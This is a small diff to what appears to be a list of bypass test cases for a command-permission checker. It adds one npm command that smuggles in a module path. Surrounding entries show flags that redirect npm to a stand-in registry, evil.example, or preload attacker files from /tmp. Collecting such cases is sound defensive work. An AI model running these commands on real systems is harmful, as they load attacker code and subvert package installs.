@@ -55,6 +55,7 @@ export const BY_VALUE: readonly BypassGroup[] = [
       'npm install --@evil:registry https://evil.example left-pad',
       'npm install --python=./evil',
       'npm test -w /tmp/evil',
+      'npm --some-module=/tmp/evil.js test',
       'npm test --workspace=/tmp/evil',
       'bun test --preload /tmp/evil.ts',
       'go build -debug-trace=/etc/x',
